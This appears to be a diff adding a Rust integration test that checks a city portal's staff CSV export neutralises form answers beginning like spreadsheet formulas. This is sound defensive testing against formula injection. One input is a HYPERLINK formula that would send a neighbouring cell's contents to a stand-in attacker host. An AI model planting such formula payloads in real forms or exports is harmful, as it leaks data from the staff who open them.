@@ -710,3 +710,80 @@ async fn a_public_form_is_filled_in_without_logging_in_and_a_stricter_one_is_ref
     );
     assert_eq!(karel.get(&format!("{BASE}/fill/weapons")).await.status, 403);
 }
+
+/// Answers that a spreadsheet would run as formulas come out of the staff
+/// export as text: a quote in front, the rest as typed. Numbers the form
+/// calculated or took as numbers stay numbers.
+#[tokio::test]
+async fn answers_that_begin_like_a_formula_are_exported_as_text_a_spreadsheet_does_not_run() {
+    let portal = TestPortal::builder().module("smart-forms").build().await;
+    let designer = portal.user("petr", UserKind::Staff, PASSWORD).await;
+    portal
+        .grant(&designer, TEST_CITY, "smart-forms.designer")
+        .await;
+    let addr = portal.serve().await;
+    let staff = Browser::new(addr);
+    assert_eq!(staff.log_in("petr", PASSWORD).await.status, 303);
+    set_up(&staff, "public").await;
+
+    let hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Details\")";
+    let visitor = Browser::new(addr);
+    let done = post(
+        &visitor,
+        "/public/dog-registration",
+        "/public/dog-registration",
+        &[
+            ("name", hyperlink),
+            ("address", "\t-2+3 Dlouhá"),
+            ("email", "jana@example.cz"),
+            ("phone", "+420 601 234 567"),
+            ("breed", "other"),
+            ("chip", "123456789012345"),
+            ("dogs", "2"),
+            ("garden", "no"),
+            ("consent", "true"),
+        ],
+    )
+    .await;
+    assert_eq!(done.status, 303, "{}", done.body);
+    let done = post(
+        &visitor,
+        "/public/dog-registration",
+        "/public/dog-registration",
+        &[
+            ("name", "@SUM(A1:A9)"),
+            ("address", "Dlouhá 5"),
+            ("breed", "labrador"),
+            ("dogs", "1"),
+            ("garden", "no"),
+            ("consent", "true"),
+        ],
+    )
+    .await;
+    assert_eq!(done.status, 303, "{}", done.body);
+
+    let csv = staff
+        .get(&format!("{BASE}/export.csv?form=dog-registration"))
+        .await;
+    assert_eq!(csv.status, 200, "{}", csv.body);
+    let rows = csv.csv_rows();
+    assert_eq!(rows.len(), 3, "{}", csv.body);
+    let column = |title: &str| {
+        rows[0]
+            .iter()
+            .position(|c| c == title)
+            .unwrap_or_else(|| panic!("no column {title}: {:?}", rows[0]))
+    };
+    // Newest first.
+    assert_eq!(rows[1][column("Your name")], "'@SUM(A1:A9)");
+    let cell = |title: &str| rows[2][column(title)].as_str();
+    assert_eq!(cell("Your name"), format!("'{hyperlink}"));
+    // The module trims the tab; what follows stays text.
+    assert_eq!(cell("Address"), "'-2+3 Dlouhá");
+    assert_eq!(cell("Phone for text messages"), "'+420 601 234 567");
+    assert_eq!(cell("phone"), "'+420 601 234 567");
+    assert_eq!(cell("E-mail"), "jana@example.cz");
+    assert_eq!(cell("Number of dogs"), "2");
+    assert_eq!(cell("Fee in CZK"), "1000");
+    assert_eq!(cell("Microchip number"), "123456789012345");
+}
